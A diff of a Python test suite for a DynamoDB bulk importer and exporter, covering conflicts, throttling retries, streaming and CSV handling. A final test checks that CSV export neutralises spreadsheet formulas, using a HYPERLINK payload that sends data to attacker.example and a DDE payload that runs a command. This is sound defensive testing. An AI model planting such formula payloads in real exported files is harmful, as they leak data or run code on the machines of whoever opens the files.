@@ -1,7 +1,10 @@
 """The bulk importer and exporter (tools.importer) against moto's DynamoDB."""
 
+import csv
 import io
+import itertools
 import json
+from dataclasses import replace
 from datetime import timedelta
 from decimal import Decimal
 from pathlib import Path
@@ -9,15 +12,18 @@ from typing import Any
 
 import boto3
 import pytest
+from botocore.awsrequest import AWSResponse
 
+from chalicelib.adapters.dynamodb import DynamoDBRepository
+from chalicelib.adapters.memory import InMemoryRepository
 from chalicelib.domain.letters import render_letter
-from chalicelib.domain.model import from_item
-from chalicelib.domain.records import Customer, Template
-from tests.conftest import AWS, NOW, TABLE, record_calls
+from chalicelib.domain.records import RECORDS, Customer, Template
+from chalicelib.domain.storage import Repository
 from tests.faults import dynamodb_error, dynamodb_ok
-from tools import importer
-from tools.importer import Problem, Progress, Summary, export_file, import_file, untyped
-from tools.rowfiles import FileError
+from tests.support import AWS, NOW, TABLE, record_calls
+from tools import importer, rowfiles
+from tools.importer import PATIENCE, Problem, Progress, Summary, export_file, import_file
+from tools.rowfiles import FileError, record_key
 from tools.stack import PROJECT_DIR, SAMPLE_ITEMS, create_table
 
 SAMPLES = PROJECT_DIR / "samples"
@@ -37,19 +43,22 @@ def log() -> io.StringIO:
     return io.StringIO()
 
 
+def on_table(slept: list[float], table: str = TABLE, counted: AWS | None = None) -> Any:
+    """The importer's repository on ``table`` in moto, its waits recorded in ``slept`` and,
+    given ``counted``, its calls in ``counted.calls`` and ``counted.sends``."""
+    dynamodb = boto3.resource("dynamodb").Table(table)
+    if counted is not None:
+        record_calls(dynamodb.meta.client, counted)
+    return DynamoDBRepository(dynamodb, replace(PATIENCE, sleep=slept.append))
+
+
 @pytest.fixture
 def run(aws: AWS, slept: list[float], log: io.StringIO) -> Any:
-    """``import_file`` into the dev table at ``NOW`` (or ``at``), waits and messages recorded."""
+    """``import_file`` into the dev table (or ``repository``) at ``NOW`` (or ``at``), waits
+    and messages recorded."""
 
-    def run_import(path: Path, at: Any = NOW, client: Any = None, table: str = TABLE) -> Summary:
-        return import_file(
-            path,
-            client or aws.dynamodb,
-            table,
-            clock=lambda: at,
-            sleep=slept.append,
-            log=log,
-        )
+    def run_import(path: Path, at: Any = NOW, repository: Repository | None = None) -> Summary:
+        return import_file(path, repository or on_table(slept), clock=lambda: at, log=log)
 
     return run_import
 
@@ -59,6 +68,13 @@ def jsonl(tmp_path: Path, *rows: dict | str, name: str = "rows.jsonl") -> Path:
     path = tmp_path / name
     lines = (row if isinstance(row, str) else json.dumps(row, ensure_ascii=False) for row in rows)
     path.write_text("".join(line + "\n" for line in lines), encoding="utf-8")
+    return path
+
+
+def csv_file(tmp_path: Path, *lines: str, name: str = "rows.csv") -> Path:
+    """A CSV file of ``lines``, each ended with CR LF, as spreadsheets write them."""
+    path = tmp_path / name
+    path.write_text("".join(line + "\r\n" for line in lines), encoding="utf-8")
     return path
 
 
@@ -82,7 +98,13 @@ def without_version(items: dict[str, dict]) -> dict[str, dict]:
     return {key: {k: v for k, v in item.items() if k not in drop} for key, item in items.items()}
 
 
+def records(repository: Repository) -> dict[str, Any]:
+    """Every customer and template ``repository`` holds, by key (``C#ann``)."""
+    return {record_key(record): record for record in repository.every(RECORDS)}
+
+
 def counts(summary: Summary) -> tuple[int, int, int, int, int, int]:
+    """rows, written, unchanged, bad, superseded and failed (conflicted ones: ``.conflicted``)."""
     return (
         summary.rows,
         summary.written,
@@ -235,19 +257,18 @@ def test_bad_rows_are_reported_by_line_and_good_rows_still_land(
 def test_csv_bad_rows_are_reported_by_the_line_they_start_on(
     aws: AWS, run: Any, tmp_path: Path
 ) -> None:
-    path = tmp_path / "rows.csv"
-    path.write_text(
-        "kind,id,name,text,greeting,description,attributes\n"
-        'template,Multi,,"line one\nline two\nline three",,,\n'
-        "customer,ok1,Okay,,,,\n"
-        "customer,short,Short\n"
-        "customer,withtext,Name,some text,,,\n"
-        "customer,badattrs,Name,,,,{plan: gold}\n"
-        'customer,list,Name,,,,"[1, 2]"\n'
-        "template,named,Someone,text,,,\n"
-        "\n"
-        "customer,,Nameless,,,,\n",
-        encoding="utf-8",
+    path = csv_file(
+        tmp_path,
+        "kind,id,name,text,greeting,description,attributes",
+        'template,Multi,,"line one\nline two\nline three",,,',
+        "customer,ok1,Okay,,,,",
+        "customer,short,Short",
+        "customer,withtext,Name,some text,,,",
+        "customer,badattrs,Name,,,,{plan: gold}",
+        'customer,list,Name,,,,"[1, 2]"',
+        "template,named,Someone,text,,,",
+        "",
+        "customer,,Nameless,,,,",
     )
 
     summary = run(path)
@@ -273,16 +294,17 @@ def test_csv_bad_rows_are_reported_by_the_line_they_start_on(
     assert stored(aws)["C#ok1"]["data"] == {"S": "Okay"}
 
 
-def test_a_rerun_writes_nothing_and_keeps_versions(aws: AWS, run: Any) -> None:
+def test_a_rerun_writes_nothing_and_keeps_versions(aws: AWS, run: Any, slept: list[float]) -> None:
     run(SAMPLES / "customers-and-templates.jsonl")
     before = stored(aws)
-    client = record_calls(boto3.client("dynamodb"), aws)
 
-    summary = run(SAMPLES / "customers-and-templates.jsonl", at=LATER, client=client)
+    summary = run(
+        SAMPLES / "customers-and-templates.jsonl", at=LATER, repository=on_table(slept, counted=aws)
+    )
 
     assert counts(summary) == (10, 0, 10, 0, 0, 0)
     assert summary.line() == "imported 10 rows: 0 written, 10 unchanged, 0 bad"
-    assert aws.calls == ["BatchGetItem"]
+    assert aws.calls == ["BatchGetItem", "BatchGetItem"]  # a batch of customers, one of templates
     assert stored(aws) == before
 
 
@@ -379,12 +401,11 @@ def test_a_dropped_greeting_is_removed_and_other_attributes_are_kept(
 
 
 def test_a_key_given_twice_is_written_once_with_the_last_row(
-    aws: AWS, run: Any, tmp_path: Path, log: io.StringIO
+    aws: AWS, run: Any, tmp_path: Path, log: io.StringIO, slept: list[float]
 ) -> None:
     path = jsonl(tmp_path, customer("a", "First"), customer("b", "B"), customer("a", "Second"))
-    client = record_calls(boto3.client("dynamodb"), aws)
 
-    summary = run(path, client=client)
+    summary = run(path, repository=on_table(slept, counted=aws))
 
     assert counts(summary) == (3, 2, 0, 0, 1, 0)
     assert summary.exit_code == 0
@@ -392,20 +413,162 @@ def test_a_key_given_twice_is_written_once_with_the_last_row(
     assert log.getvalue() == f"{path}:1: customer a is given again on line 3; the later row wins\n"
     assert stored(aws)["C#a"]["data"] == {"S": "Second"}
     assert stored(aws)["C#a"]["version"] == {"N": "1"}
-    assert aws.calls == ["BatchGetItem", "BatchWriteItem"]
+    assert aws.calls == ["BatchGetItem", "TransactWriteItems"]
 
 
-def test_60_rows_take_3_reads_and_3_writes(aws: AWS, run: Any, tmp_path: Path) -> None:
+def test_250_rows_take_3_reads_and_3_writes(
+    aws: AWS, run: Any, tmp_path: Path, slept: list[float]
+) -> None:
     path = jsonl(
-        tmp_path, *(customer(f"c{number:02}", f"Customer {number}") for number in range(60))
+        tmp_path, *(customer(f"c{number:03}", f"Customer {number}") for number in range(250))
     )
-    client = record_calls(boto3.client("dynamodb"), aws)
 
-    summary = run(path, client=client)
+    summary = run(path, repository=on_table(slept, counted=aws))
 
-    assert counts(summary) == (60, 60, 0, 0, 0, 0)
-    assert aws.calls == ["BatchGetItem", "BatchWriteItem"] * 3
-    assert len(stored(aws)) == 60 + len(SEEDED)
+    assert counts(summary) == (250, 250, 0, 0, 0, 0)
+    assert aws.calls == ["BatchGetItem", "TransactWriteItems"] * 3
+    assert len(stored(aws)) == 250 + len(SEEDED)
+
+
+# API writers racing the importer
+
+
+@pytest.fixture(params=["dynamodb", "memory"])
+def repository(request: pytest.FixtureRequest, aws: AWS, slept: list[float]) -> Repository:
+    """Either repository: the contract, and so what the importer does, is the same."""
+    return on_table(slept) if request.param == "dynamodb" else InMemoryRepository()
+
+
+class _APIWritesAfterTheRead:
+    """``repository``, where an API client's PUT of each of ``writes`` lands just after the
+    importer's read, conditional (``If-Match``) on the version that read found."""
+
+    def __init__(self, repository: Repository, *writes: Customer) -> None:
+        self.repository = repository
+        self.writes = list(writes)
+
+    def get_many(self, model: type, identifiers: list[str]) -> dict[str, Any]:
+        found = self.repository.get_many(model, identifiers)
+        for record in self.writes:
+            read = found.get(record.identifier)
+            self.repository.put(record, None if read is None else read.version)
+        self.writes = []
+        return found
+
+    def put_many(self, writes: list[tuple[Any, int | None]]) -> list[Any]:
+        return self.repository.put_many(writes)
+
+
+def test_an_api_write_after_the_read_is_a_conflict_and_a_rerun_imports_over_it(
+    run: Any, tmp_path: Path, log: io.StringIO, repository: Repository
+) -> None:
+    run(jsonl(tmp_path, customer("a", "A"), customer("b", "B")), repository=repository)
+    path = jsonl(
+        tmp_path,
+        customer("a", "A2"),
+        customer("b", "B from the file"),
+        customer("c", "C"),
+        customer("d", "D from the file"),
+        name="second.jsonl",
+    )
+    at_api = "2026-11-23T21:30:00Z"
+    api_b = Customer("b", "B from the API", {"plan": "gold"}, updated_at=at_api)
+    api_d = Customer("d", "D from the API", updated_at=at_api)
+
+    summary = run(path, at=LATER, repository=_APIWritesAfterTheRead(repository, api_b, api_d))
+
+    changed = "changed since it was read; run the import again"
+    assert summary.problems == [
+        Problem(2, f"not imported: customer b {changed}"),
+        Problem(4, f"not imported: customer d {changed}"),
+    ]
+    assert counts(summary) == (4, 2, 0, 0, 0, 0)
+    assert summary.conflicted == 2
+    assert summary.exit_code == 1
+    assert summary.line() == "imported 4 rows: 2 written, 0 unchanged, 0 bad, 2 conflicted"
+    assert log.getvalue() == (
+        f"{path}:2: not imported: customer b {changed}\n"
+        f"{path}:4: not imported: customer d {changed}\n"
+    )
+    later = LATER_STAMP["S"]
+    after_race = records(repository)
+    assert after_race["C#b"] == replace(api_b, version=2)  # the API's content, the API's version
+    assert after_race["C#d"] == replace(api_d, version=1)
+    assert after_race["C#a"] == Customer("a", "A2", version=2, updated_at=later)
+    assert after_race["C#c"] == Customer("c", "C", version=1, updated_at=later)
+
+    again = run(path, at=LATER, repository=repository)
+
+    assert counts(again) == (4, 2, 2, 0, 0, 0)
+    assert again.conflicted == 0
+    rerun = records(repository)
+    assert rerun["C#b"] == Customer("b", "B from the file", version=3, updated_at=later)
+    assert rerun["C#d"] == Customer("d", "D from the file", version=2, updated_at=later)
+    assert rerun["C#a"] == after_race["C#a"]
+
+
+# Streaming
+
+
+def _runs(events: list[str]) -> list[str]:
+    """``["row", "row", "write 2"]`` as ``["row x2", "write 2"]``."""
+    return [
+        name if (count := len(list(group))) == 1 else f"{name} x{count}"
+        for name, group in itertools.groupby(events)
+    ]
+
+
+def test_the_file_is_read_twice_and_written_a_batch_at_a_time(
+    tmp_path: Path, log: io.StringIO, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    rows = [customer(f"c{number:03}", f"C {number}") for number in range(250)]
+    path = jsonl(tmp_path, *rows, customer("c000", "C 0 again"))
+    events: list[str] = []
+
+    def reading(path: Path) -> Any:
+        events.append("open")
+        for entry in rowfiles.read_rows(path):
+            events.append("row")
+            yield entry
+
+    class Counting(InMemoryRepository):
+        def put_many(self, writes: Any) -> Any:
+            events.append(f"write {len(writes)}")
+            return super().put_many(writes)
+
+    monkeypatch.setattr(importer, "read_rows", reading)
+    repository = Counting()
+
+    summary = import_file(path, repository, log=log)
+
+    assert counts(summary) == (251, 250, 0, 0, 1, 0)
+    # The first pass checks every row and keeps only line numbers; the second holds one
+    # batch of rows at a time, written before the next is read.
+    assert _runs(events) == [
+        "open", "row x251",
+        "open", "row x101", "write 100", "row x100", "write 100", "row x50", "write 50",
+    ]  # fmt: skip
+    assert records(repository)["C#c000"].name == "C 0 again"
+
+
+def test_a_file_that_changes_between_the_passes_stops_the_import(
+    tmp_path: Path, log: io.StringIO, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    path = jsonl(tmp_path, customer("a", "A"), customer("b", "B"))
+    passes: list[Path] = []
+
+    def reading(path: Path) -> Any:
+        passes.append(path)
+        if len(passes) == 2:
+            jsonl(tmp_path, customer("b", "B"), customer("a", "A"))  # the lines swapped
+        return rowfiles.read_rows(path)
+
+    monkeypatch.setattr(importer, "read_rows", reading)
+    repository = InMemoryRepository()
+
+    with pytest.raises(FileError, match="it changed while it was imported; run the import again"):
+        import_file(path, repository, log=log)
+    assert repository.items == {}
 
 
 # DynamoDB pushing back
@@ -415,39 +578,63 @@ def _instead_of_dynamodb(request: Any, answer: Any) -> Any:
     """``answer`` as DynamoDB's, with nothing done: moto's own ``before-send`` handler runs
     after this hook and, its answer ignored, would still carry the request out; so the
     request it sees is emptied first."""
-    request.body = json.dumps({"RequestItems": {}}).encode()
+    empty = {"TransactItems": []} if b"TransactItems" in request.body else {"RequestItems": {}}
+    request.body = json.dumps(empty).encode()
     return answer
 
 
-def _unprocess_after(aws: AWS, processed: int) -> Any:
-    """A BatchWriteItem answer that really writes the first ``processed`` items of the
-    request and hands the rest back as unprocessed, as a throttled table does."""
+class _Body:
+    def __init__(self, data: bytes) -> None:
+        self.data = data
 
-    def answer(request: Any, **_: Any) -> Any:
-        requests = json.loads(request.body)["RequestItems"][TABLE]
-        for put in requests[:processed]:
-            aws.dynamodb.put_item(TableName=TABLE, Item=put["PutRequest"]["Item"])
-        unprocessed = dynamodb_ok({"UnprocessedItems": {TABLE: requests[processed:]}})
-        return _instead_of_dynamodb(request, unprocessed(request))
+    def stream(self, **_: Any) -> Any:
+        yield self.data
+
+
+def _cancelled(*codes: str) -> Any:
+    """A TransactWriteItems answer that cancels it, one reason per write: nothing written."""
+    reasons = [
+        {"Code": code} | ({} if code == "None" else {"Message": f"{code} here"}) for code in codes
+    ]
+    body = {
+        "__type": "com.amazonaws.dynamodb.v20120810#TransactionCanceledException",
+        "Message": "Transaction cancelled",
+        "CancellationReasons": reasons,
+    }
+    headers = {
+        "Content-Type": "application/x-amz-json-1.0",
+        "x-amzn-ErrorType": "TransactionCanceledException",
+    }
+
+    def answer(request: Any) -> AWSResponse:
+        assert len(json.loads(request.body)["TransactItems"]) == len(codes)
+        cancelled = AWSResponse(request.url, 400, headers, _Body(json.dumps(body).encode()))
+        return _instead_of_dynamodb(request, cancelled)
 
     return answer
 
 
-def test_unprocessed_items_are_sent_again_after_a_wait(
+def _throttled(request: Any, **_: Any) -> Any:
+    """Every write of the transaction cancelled because the table was throttling."""
+    writes = len(json.loads(request.body)["TransactItems"])
+    return _cancelled(*["ThrottlingError"] * writes)(request)
+
+
+def test_writes_cancelled_while_throttling_are_sent_again_after_a_wait(
     aws: AWS, run: Any, tmp_path: Path, slept: list[float]
 ) -> None:
     path = jsonl(tmp_path, *(customer(f"c{number:02}", f"C {number}") for number in range(25)))
-    client = record_calls(boto3.client("dynamodb"), aws)
-    answers = [_unprocess_after(aws, 10), _unprocess_after(aws, 5)]
-    client.meta.events.register(
-        "before-send.dynamodb.BatchWriteItem",
+    repository = on_table(slept, counted=aws)
+    answers = [_throttled, _throttled]
+    repository.client.meta.events.register(
+        "before-send.dynamodb.TransactWriteItems",
         lambda request, **_: answers.pop(0)(request) if answers else None,
     )
 
-    summary = run(path, client=client)
+    summary = run(path, repository=repository)
 
     assert counts(summary) == (25, 25, 0, 0, 0, 0)
-    assert aws.sends == ["BatchGetItem"] + ["BatchWriteItem"] * 3
+    assert aws.sends == ["BatchGetItem"] + ["TransactWriteItems"] * 3
     assert slept == [0.05, 0.1]
     assert without_version(stored(aws)) == SEEDED | {
         f"C#c{number:02}": {"PK": {"S": f"C#c{number:02}"}, "data": {"S": f"C {number}"}}
@@ -456,19 +643,16 @@ def test_unprocessed_items_are_sent_again_after_a_wait(
     assert {item.get("version", {}).get("N") for item in stored(aws).values()} == {None, "1"}
 
 
-def test_items_left_unprocessed_for_good_are_failed_rows(
+def test_writes_cancelled_for_good_are_failed_rows(
     aws: AWS, run: Any, tmp_path: Path, slept: list[float]
 ) -> None:
     path = jsonl(tmp_path, customer("a", "A"), "oops", customer("b", "B"))
-    client = boto3.client("dynamodb")
-    client.meta.events.register(
-        "before-send.dynamodb.BatchWriteItem",
-        lambda request, **_: _unprocess_after(aws, 0)(request),
-    )
+    repository = on_table(slept)
+    repository.client.meta.events.register("before-send.dynamodb.TransactWriteItems", _throttled)
 
-    summary = run(path, client=client)
+    summary = run(path, repository=repository)
 
-    reason = "not imported: DynamoDB left it unprocessed after 10 tries (throttled)"
+    reason = "not imported: DynamoDB kept cancelling it (throttled) after 10 tries"
     assert summary.problems == [
         Problem(2, "not valid JSON: Expecting value at column 1"),
         Problem(1, reason),
@@ -485,7 +669,7 @@ def test_unprocessed_keys_are_read_again(
     aws: AWS, run: Any, tmp_path: Path, slept: list[float]
 ) -> None:
     path = jsonl(tmp_path, customer("TestCustomer", "Testing Customer"), customer("new", "New"))
-    client = record_calls(boto3.client("dynamodb"), aws)
+    repository = on_table(slept, counted=aws)
     answers = [
         lambda request: _instead_of_dynamodb(
             request,
@@ -494,37 +678,59 @@ def test_unprocessed_keys_are_read_again(
             )(request),
         )
     ]
-    client.meta.events.register(
+    repository.client.meta.events.register(
         "before-send.dynamodb.BatchGetItem",
         lambda request, **_: answers.pop(0)(request) if answers else None,
     )
 
-    summary = run(path, client=client)
+    summary = run(path, repository=repository)
 
     assert counts(summary) == (2, 1, 1, 0, 0, 0)  # the seeded customer was read, and is the same
-    assert aws.sends == ["BatchGetItem", "BatchGetItem", "BatchWriteItem"]
+    assert aws.sends == ["BatchGetItem", "BatchGetItem", "TransactWriteItems"]
     assert slept == [0.05]
 
 
 def test_a_batch_dynamodb_refuses_is_sent_again_so_only_the_culprit_fails(
-    aws: AWS, run: Any, tmp_path: Path
+    aws: AWS, run: Any, tmp_path: Path, slept: list[float]
 ) -> None:
-    path = jsonl(tmp_path, customer("a", "A"), template("Poison", "x"), customer("b", "B"))
-    client = record_calls(boto3.client("dynamodb"), aws)
+    path = jsonl(tmp_path, customer("a", "A"), customer("Poison", "x"), customer("b", "B"))
+    repository = on_table(slept, counted=aws)
 
     def refuse_poison(request: Any, **_: Any) -> Any:
-        if b"D#Poison" in request.body:
+        if b"C#Poison" in request.body:
             return _instead_of_dynamodb(request, dynamodb_error("ValidationException")(request))
         return None
 
-    client.meta.events.register("before-send.dynamodb.BatchWriteItem", refuse_poison)
+    repository.client.meta.events.register("before-send.dynamodb.TransactWriteItems", refuse_poison)
 
-    summary = run(path, client=client)
+    summary = run(path, repository=repository)
 
     assert summary.problems == [Problem(2, "not imported: DynamoDB refused it: x")]
     assert counts(summary) == (3, 2, 0, 0, 0, 1)
-    assert aws.calls == ["BatchGetItem"] + ["BatchWriteItem"] * 4  # the batch, then one each
+    assert aws.calls == ["BatchGetItem"] + ["TransactWriteItems"] * 4  # the batch, then one each
     assert set(stored(aws)) == {*SEEDED, "C#a", "C#b"}
+
+
+def test_a_write_cancelled_as_invalid_fails_and_the_others_are_sent_again(
+    aws: AWS, run: Any, tmp_path: Path, slept: list[float]
+) -> None:
+    path = jsonl(tmp_path, customer("a", "A"), customer("b", "B"), customer("c", "C"))
+    repository = on_table(slept, counted=aws)
+    answers = [_cancelled("None", "ValidationError", "None")]
+    repository.client.meta.events.register(
+        "before-send.dynamodb.TransactWriteItems",
+        lambda request, **_: answers.pop(0)(request) if answers else None,
+    )
+
+    summary = run(path, repository=repository)
+
+    assert summary.problems == [
+        Problem(2, "not imported: DynamoDB refused it: ValidationError here")
+    ]
+    assert counts(summary) == (3, 2, 0, 0, 0, 1)
+    assert aws.sends == ["BatchGetItem", "TransactWriteItems", "TransactWriteItems"]
+    assert slept == []  # not throttled: the others go again at once
+    assert set(stored(aws)) == {*SEEDED, "C#a", "C#c"}
 
 
 def test_a_row_larger_than_the_api_accepts_is_bad(aws: AWS, run: Any, tmp_path: Path) -> None:
@@ -542,24 +748,63 @@ def test_a_row_larger_than_the_api_accepts_is_bad(aws: AWS, run: Any, tmp_path: 
 
 
 def test_a_short_import_prints_nothing_but_a_long_one_shows_progress(
-    aws: AWS, tmp_path: Path, log: io.StringIO
+    tmp_path: Path, log: io.StringIO
 ) -> None:
-    path = jsonl(tmp_path, *(customer(f"c{number:02}", f"C {number}") for number in range(60)))
+    path = jsonl(tmp_path, *(customer(f"c{number:03}", f"C {number}") for number in range(250)))
     ticks = iter([0.0, 0.5, 1.2, 1.5])  # start, then after each of the 3 batches
 
     import_file(
         path,
-        aws.dynamodb,
-        TABLE,
+        InMemoryRepository(),
         clock=lambda: NOW,
         log=log,
         progress=Progress(log, ticks.__next__),
     )
 
-    assert log.getvalue() == "50 of 60 rows: 50 written, 0 unchanged, 0 bad\n"
+    assert log.getvalue() == "200 of 250 rows: 200 written, 0 unchanged, 0 bad\n"
     short = io.StringIO()
-    import_file(SAMPLES / "customers.csv", aws.dynamodb, TABLE, log=short)
+    import_file(SAMPLES / "customers.csv", InMemoryRepository(), log=short)
     assert short.getvalue() == ""
+
+
+def test_a_csv_file_may_leave_out_columns_and_order_them_as_it_likes(
+    aws: AWS, run: Any, tmp_path: Path
+) -> None:
+    path = csv_file(
+        tmp_path,
+        "id,name,kind",
+        "ann,Ann,customer",
+        "Note,,template",  # a template without a text column: its text is empty
+        "bob,,customer",
+        name="few.csv",
+    )
+
+    summary = run(path)
+
+    assert summary.problems == [Problem(4, "name must be longer than or equal to 1 characters")]
+    assert counts(summary) == (3, 2, 0, 1, 0, 0)
+    assert without_version(stored(aws)) == SEEDED | {
+        "C#ann": {"PK": {"S": "C#ann"}, "data": {"S": "Ann"}},
+        "D#Note": {"PK": {"S": "D#Note"}, "data": {"S": ""}},
+    }
+
+
+@pytest.mark.parametrize(
+    "header", ["kind,customerId,name", "id,name", "kind,id,name,name", "kind,id,name,email"]
+)
+def test_a_csv_header_with_unknown_or_repeated_columns_or_no_kind_or_id_is_refused(
+    aws: AWS, run: Any, tmp_path: Path, header: str
+) -> None:
+    path = csv_file(tmp_path, header, "customer,a,A", name="wrong.csv")
+
+    with pytest.raises(FileError) as refused:
+        run(path)
+
+    assert str(refused.value) == (
+        f"{path}: the first line must be the header kind,id,name,text,greeting,description,"
+        "attributes (or kind, id and any of the others, in any order)"
+    )
+    assert stored(aws) == SEEDED
 
 
 # Files that cannot be used at all
@@ -588,13 +833,13 @@ def test_files_that_cannot_be_read_change_nothing(aws: AWS, run: Any, tmp_path: 
 
 
 def test_jsonl_export_then_import_into_an_empty_table_gives_the_same_items(
-    aws: AWS, run: Any, tmp_path: Path, log: io.StringIO
+    aws: AWS, run: Any, tmp_path: Path, log: io.StringIO, slept: list[float]
 ) -> None:
     sample = SAMPLES / "customers-and-templates.jsonl"
     run(sample)
     exported = tmp_path / "export.jsonl"
 
-    summary = export_file(exported, aws.dynamodb, TABLE, log=log)
+    summary = export_file(exported, on_table(slept), log=log)
 
     assert summary.line() == "exported 10 rows: 5 customers, 5 templates"
     assert summary.exit_code == 0
@@ -617,22 +862,22 @@ def test_jsonl_export_then_import_into_an_empty_table_gives_the_same_items(
     assert '"discount": 0.15, "active": true, "vat_id": null' in lines[3]
 
     create_table(aws.dynamodb, "docgen-copy")
-    copied = run(exported, table="docgen-copy")
+    copied = run(exported, repository=on_table(slept, "docgen-copy"))
     assert counts(copied) == (10, 10, 0, 0, 0, 0)
     assert without_version(stored(aws, "docgen-copy")) == without_version(stored(aws))
     again = tmp_path / "again.jsonl"
-    export_file(again, aws.dynamodb, "docgen-copy", log=log)
+    export_file(again, on_table(slept, "docgen-copy"), log=log)
     assert again.read_bytes() == exported.read_bytes()
     assert log.getvalue() == ""
 
 
 def test_csv_export_then_import_into_an_empty_table_gives_the_same_items(
-    aws: AWS, run: Any, tmp_path: Path, log: io.StringIO
+    aws: AWS, run: Any, tmp_path: Path, log: io.StringIO, slept: list[float]
 ) -> None:
     assert counts(run(SAMPLES / "customers.csv")) == (5, 4, 1, 0, 0, 0)
     exported = tmp_path / "export.csv"
 
-    summary = export_file(exported, aws.dynamodb, TABLE, log=log)
+    summary = export_file(exported, on_table(slept), log=log)
 
     assert summary.line() == "exported 6 rows: 4 customers, 2 templates"
     assert exported.read_bytes().startswith(
@@ -640,7 +885,7 @@ def test_csv_export_then_import_into_an_empty_table_gives_the_same_items(
         b"customer,TestCustomer,Testing Customer,,,,\r\n"
     )
     create_table(aws.dynamodb, "docgen-copy")
-    assert counts(run(exported, table="docgen-copy")) == (6, 6, 0, 0, 0, 0)
+    assert counts(run(exported, repository=on_table(slept, "docgen-copy"))) == (6, 6, 0, 0, 0, 0)
     assert without_version(stored(aws, "docgen-copy")) == without_version(stored(aws))
     assert stored(aws, "docgen-copy")["D#PlanReminder"]["data"] == {
         "S": 'Your plan: {{ attributes.plan | default("none") }}.\n'
@@ -650,11 +895,11 @@ def test_csv_export_then_import_into_an_empty_table_gives_the_same_items(
 
 
 def test_csv_export_warns_about_what_csv_cannot_hold(
-    aws: AWS, run: Any, tmp_path: Path, log: io.StringIO
+    aws: AWS, run: Any, tmp_path: Path, log: io.StringIO, slept: list[float]
 ) -> None:
     run(jsonl(tmp_path, template("Bare", "x", greeting="")))
 
-    summary = export_file(tmp_path / "out.csv", aws.dynamodb, TABLE, "templates", log=log)
+    summary = export_file(tmp_path / "out.csv", on_table(slept), "templates", log=log)
 
     assert summary.line() == "exported 2 rows: 0 customers, 2 templates, 1 warnings"
     assert summary.exit_code == 1
@@ -665,14 +910,14 @@ def test_csv_export_warns_about_what_csv_cannot_hold(
 
 
 def test_export_by_kind_and_what_it_cannot_export(
-    aws: AWS, tmp_path: Path, log: io.StringIO
+    aws: AWS, tmp_path: Path, log: io.StringIO, slept: list[float]
 ) -> None:
     aws.put_item(PK={"S": "C#nameless"})
     aws.put_item(PK={"S": "C#bad id"}, data={"S": "Odd"})
     aws.put_item(PK={"S": "X#other"}, data={"S": "not ours"})
     path = tmp_path / "customers.jsonl"
 
-    summary = export_file(path, aws.dynamodb, TABLE, "customers", log=log)
+    summary = export_file(path, on_table(slept), "customers", log=log)
 
     assert summary.line() == "exported 2 rows: 2 customers, 0 templates, 2 warnings"
     assert path.read_text(encoding="utf-8") == (
@@ -718,16 +963,14 @@ def test_the_command_line(
 # The samples
 
 
-def test_every_sample_template_renders_for_every_sample_customer(aws: AWS, run: Any) -> None:
+def test_every_sample_template_renders_for_every_sample_customer(
+    run: Any, slept: list[float]
+) -> None:
     run(SAMPLES / "customers-and-templates.jsonl")
     run(SAMPLES / "customers.csv")
-    items = stored(aws).values()
-    customers = [
-        from_item(Customer, untyped(item)) for item in items if item["PK"]["S"].startswith("C#")
-    ]
-    templates = [
-        from_item(Template, untyped(item)) for item in items if item["PK"]["S"].startswith("D#")
-    ]
+    stored_records = records(on_table(slept)).values()
+    customers = [record for record in stored_records if isinstance(record, Customer)]
+    templates = [record for record in stored_records if isinstance(record, Template)]
     letters = {
         (c.customer_id, t.doc_type): render_letter(c, t) for c in customers for t in templates
     }
@@ -762,16 +1005,87 @@ def test_every_sample_template_renders_for_every_sample_customer(aws: AWS, run: 
 
 
 def test_in_csv_a_greeting_that_renders_to_nothing_means_no_greeting_line(
-    aws: AWS, run: Any, tmp_path: Path
+    run: Any, tmp_path: Path, slept: list[float]
 ) -> None:
-    path = tmp_path / "no-greeting.csv"
-    path.write_text(
-        "kind,id,name,text,greeting,description,attributes\r\n"
-        "template,Plain,,Just the text.,{#-#},,\r\n",
-        encoding="utf-8",
+    path = csv_file(
+        tmp_path,
+        "kind,id,name,text,greeting,description,attributes",
+        "template,Plain,,Just the text.,{#-#},,",
+        name="no-greeting.csv",
     )
     run(path)
 
-    plain = from_item(Template, untyped(stored(aws)["D#Plain"]))
-    letter = render_letter(from_item(Customer, untyped(stored(aws)["C#TestCustomer"])), plain)
+    stored_records = records(on_table(slept))
+    letter = render_letter(stored_records["C#TestCustomer"], stored_records["D#Plain"])
     assert letter == "Just the text."
+
+
+# CSV cells a spreadsheet would run
+
+HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&A1,"Click")'
+CALC = "+cmd|' /C calc'!A0"
+
+
+def test_csv_export_neutralises_formulas_and_imports_them_back_exactly(
+    aws: AWS, run: Any, tmp_path: Path, log: io.StringIO, slept: list[float]
+) -> None:
+    run(
+        jsonl(
+            tmp_path,
+            customer("link", HYPERLINK, link=HYPERLINK),
+            customer("calc", CALC, calc=CALC),
+            customer("quoted", "'Tis", note="''twice"),
+            customer("marked", "'=not a formula"),
+            customer("minus", "-5", at="@SUM(A1)"),
+            template("Tabbed", "\tindented", greeting="\r\nDear {{ name }}", description="=1+1"),
+        )
+    )
+    exported = tmp_path / "export.csv"
+
+    export_file(exported, on_table(slept), log=log)
+
+    text = exported.read_bytes().decode("utf-8")
+    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
+    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
+    assert text.splitlines(keepends=True)[1:8] == [
+        "customer,TestCustomer,Testing Customer,,,,\r\n",
+        'customer,calc,\'+cmd|\' /C calc\'!A0,,,,"{""calc"": ""+cmd|\' /C calc\'!A0""}"\r\n',
+        'customer,link,"\'=HYPERLINK(""http://attacker.example/?d=""&A1,""Click"")",,,,'
+        '"{""link"": ""=HYPERLINK(\\""http://attacker.example/?d=\\""&A1,\\""Click\\"")""}"\r\n',
+        "customer,marked,''=not a formula,,,,\r\n",
+        'customer,minus,\'-5,,,,"{""at"": ""@SUM(A1)""}"\r\n',
+        'customer,quoted,\'\'Tis,,,,"{""note"": ""\'\'twice""}"\r\n',
+        "template,Tabbed,,'\tindented,\"'\r\n",
+    ]
+    create_table(aws.dynamodb, "docgen-copy")
+    assert counts(run(exported, repository=on_table(slept, "docgen-copy"))) == (8, 8, 0, 0, 0, 0)
+    assert without_version(stored(aws, "docgen-copy")) == without_version(stored(aws))
+    assert stored(aws, "docgen-copy")["C#link"]["data"] == {"S": HYPERLINK}
